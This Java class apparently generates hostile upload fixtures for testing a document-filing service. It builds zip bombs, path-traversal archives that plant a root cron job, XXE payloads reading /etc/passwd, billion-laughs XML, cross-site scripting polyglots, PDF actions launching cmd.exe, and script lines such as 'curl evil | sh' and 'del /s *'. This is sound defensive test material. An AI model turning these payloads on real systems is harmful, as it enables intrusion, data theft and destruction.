package org.zhengtong.services.filing.hostile;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;

/** Files nobody should hand in, made anew each time. */
final class HostileFiles {
    private static final String[] ENDINGS = {"zip", "pdf", "png", "jpg", "docx"};
    private static final String ENTITY = """
            <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r xmlns="urn:r">&x;</r>""";
    private static final String LAUGHS = """
            <?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\
            <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>""";

    private final List<Hostile> files = new ArrayList<>();
    private final Random random;

    HostileFiles(Random random) {
        this.random = random;
    }

    /** @param what kind of attack */
    @SuppressWarnings("ArrayRecordComponent")
    record Hostile(String what, String name, byte[] content) {
        @Override
        public String toString() {
            return what + " as " + name;
        }
    }

    List<Hostile> all() {
        archives();
        polyglots();
        floods();
        programs();
        entities();
        brokenPdfs();
        brokenOfds();
        return List.copyOf(files);
    }

    private void add(String what, byte[] content, String... endings) {
        for (String ending : endings) {
            files.add(new Hostile(what, "材料." + ending, content));
        }
    }

    private void archives() {
        add("archive bomb", zip("zeros.bin", new byte[8 << 20]), ENDINGS);
        add("archive in archives", zip("c.zip", zip("b.zip", zip("a.zip", zip("zeros", new byte[1 << 20])))), ENDINGS);
        add("archive that leads out of its folder", zip("../../../etc/cron.d/job", text("* * * * * root id")), ENDINGS);
        add("archive with an absolute path", zip("/etc/passwd", text("root::0:0")), ENDINGS);
        add("archive of very many files", crowd(), ENDINGS);
        add("archive cut off", cut(zip("a.txt", new byte[5000])), ENDINGS);
        add("archive that says it has other files", lying(), ENDINGS);
        add("gzip bomb", gzipLike(), "gz", "pdf", "png");
        add("7z", bytes(0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4), "7z", "pdf", "jpg");
        add("rar", text("Rar!\u001A\u0007\u0001\u0000 archive"), "rar", "pdf", "jpg");
    }

    private void polyglots() {
        byte[] zip = zip("a.txt", new byte[10]);
        byte[] png = picture("png");
        add("picture and archive", joined(png, zip), "png", "zip", "jpg");
        add("photograph and archive", joined(picture("jpg"), zip), "jpg", "zip", "pdf");
        add("document and archive", joined(pdf(""), zip), "pdf", "zip", "png");
        add("page before a document", joined(text("<html><script>alert(1)</script>"), pdf("")), "pdf", "html", "png");
        add("script that begins as a picture", text("GIF89a=1;alert(document.cookie)//"), "gif", "png", "js");
        add("bitmap that is a script", text("BM=1;alert(1);"), "bmp", "png", "pdf");
        add("page", text("<!DOCTYPE html><script>fetch('/my')</script>"), "html", "pdf", "png", "jpg");
        add(
                "picture with a script",
                text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
                "svg",
                "png",
                "pdf");
    }

    private void floods() {
        int[][] sizes = {
            {50_000, 50_000}, {Integer.MAX_VALUE, 1}, {1, Integer.MAX_VALUE}, {0, 0}, {30_000, 30_001}, {-1, -1}
        };
        for (int[] size : sizes) {
            add("picture of " + size[0] + " × " + size[1], sized(size[0], size[1]), "png", "jpg");
        }
        add("photograph of 65,500 × 65,500", sizedPhotograph(65_500), "jpg", "png");
        add("picture cut off", cut(picture("png")), "png", "jpg");
        add("photograph cut off", cut(picture("jpg")), "jpg", "png");
    }

    private void programs() {
        add(
                "word with macros",
                zip("word/vbaProject.bin", text("Attribut\u0000e VB_Nam")),
                "docm",
                "pdf",
                "docx",
                "jpg");
        add(
                "sheet with macros",
                zip("xl/vbaProject.bin", text("Attribut\u0000e VB_Nam")),
                "xlsm",
                "pdf",
                "xlsx",
                "png");
        add("old word", bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1), "doc", "pdf", "png");
        add("rich text with an object", text("{\\rtf1{\\object\\objdata 0105}}"), "rtf", "pdf", "doc");
        add("program", bytes('M', 'Z', 0x90, 0, 3, 0, 0, 0, 4, 0), "exe", "pdf", "png", "jpg");
        add("linux program", bytes(0x7F, 'E', 'L', 'F', 2, 1, 1), "bin", "pdf", "png");
        add("mac program", bytes(0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1), "app", "pdf", "jpg");
        add("java", bytes(0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 0x41), "class", "pdf", "jpg");
        add("shell script", text("#!/bin/sh\ncurl evil | sh\n"), "sh", "pdf", "png");
        add("shortcut", bytes(0x4C, 0, 0, 0, 1, 0x14, 2, 0), "lnk", "pdf", "jpg");
        add("batch file", text("@echo off\r\ndel /s *\r\n"), "bat", "cmd", "pdf");
        add("powershell", text("Invoke-Expression (iwr evil)"), "ps1", "pdf", "png");
    }

    private void entities() {
        add("external entity", text(ENTITY), "xml", "pdf", "svg", "png");
        add("entities that grow", text(LAUGHS), "xml", "pdf", "svg", "png");
        add("document of an external entity", zip("word/document.xml", text(ENTITY)), "docx", "pdf", "zip", "jpg");
        add("sheet of an external entity", zip("xl/workbook.xml", text(ENTITY)), "xlsx", "pdf", "zip", "png");
        add("fixed layout of an external entity", zip("OFD.xml", text(ENTITY)), "ofd", "pdf", "zip", "png");
        add("fixed layout that grows", zip("OFD.xml", text(LAUGHS)), "ofd", "pdf", "zip", "jpg");
    }

    private void brokenPdfs() {
        for (String acting : List.of(
                "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
                "/OpenAction << /S /J#61vaScript /J#53 (x) >>",
                "/AA << /O << /S /Launch /F (cmd.exe) >> >>",
                "/Names << /EmbeddedFiles 9 0 R >>",
                "/AcroForm << /XFA 9 0 R >>",
                "/Annots [<< /Subtype /RichMedia >>]",
                "/A << /S /ImportData /F (x) >>",
                "/A << /S /SubmitForm /F (http://evil) >>",
                "/Encrypt 9 0 R")) {
            add("document with " + acting, pdf(acting), "pdf", "png");
        }
        add(
                "document that hides a script in an object stream",
                hidden(text("1 0 << /S /JavaScript /JS (x) >>")),
                "pdf",
                "jpg");
        add("document whose object stream is a bomb", hidden(new byte[101 << 20]), "pdf");
        add("document without an end", text("%PDF-1.7\n1 0 obj << >> endobj\n"), "pdf", "png");
        add("document with an endless stream", text("%PDF-1.7\n1 0 obj << >> stream\nabc\n%%EOF"), "pdf", "jpg");
        byte[] whole = pdf("");
        for (int i = 0; i < 20; i++) {
            add("document cut off", Arrays.copyOf(whole, 5 + random.nextInt(whole.length - 20)), "pdf");
        }
    }

    private void brokenOfds() {
        byte[] ofd = zip("OFD.xml", text("<ofd:OFD xmlns:ofd='http://www.ofdspec.org/2016'/>"));
        add("fixed layout without pages", ofd, "ofd", "pdf");
        add("fixed layout cut off", cut(ofd), "ofd", "pdf");
        add("fixed layout of nothing", zip("x", new byte[0]), "ofd", "pdf");
    }

    static byte[] picture(String format) {
        try {
            ByteArrayOutputStream content = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(40, 30, BufferedImage.TYPE_INT_RGB), format, content);
            return content.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] sized(int width, int height) {
        ByteBuffer png = ByteBuffer.wrap(picture("png"));
        png.putInt(16, width).putInt(20, height);
        CRC32 checksum = new CRC32();
        checksum.update(png.array(), 12, 17);
        return png.putInt(29, (int) checksum.getValue()).array();
    }

    private static byte[] sizedPhotograph(int side) {
        byte[] photograph = picture("jpg");
        for (int i = 0; i + 9 < photograph.length; i++) {
            if ((photograph[i] & 0xFF) == 0xFF && (photograph[i + 1] & 0xFF) == 0xC0) {
                ByteBuffer.wrap(photograph).putShort(i + 5, (short) side).putShort(i + 7, (short) side);
            }
        }
        return photograph;
    }

    private static byte[] pdf(String inCatalogue) {
        return text("""
                %%PDF-1.7
                1 0 obj << /Type /Catalog /Pages 2 0 R %s >> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                trailer << /Root 1 0 R >>
                %%%%EOF
                """.formatted(inCatalogue));
    }

    private static byte[] hidden(byte[] content) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflating = new DeflaterOutputStream(packed)) {
            deflating.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return joined(
                text("%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"),
                packed.toByteArray(),
                text("\nendstream endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"));
    }

    private static byte[] zip(String name, byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] crowd() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (int i = 0; i < 2000; i++) {
                zip.putNextEntry(new ZipEntry(i + ".txt"));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** The list at the end names more files than there are. */
    private static byte[] lying() {
        byte[] zip = zip("a.txt", new byte[100]);
        int end = zip.length - 22;
        zip[end + 8] = 7;
        zip[end + 10] = 7;
        return zip;
    }

    private static byte[] gzipLike() {
        return joined(bytes(0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3), new byte[2000]);
    }

    private static byte[] cut(byte[] whole) {
        return Arrays.copyOf(whole, whole.length / 2);
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[600];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }
}
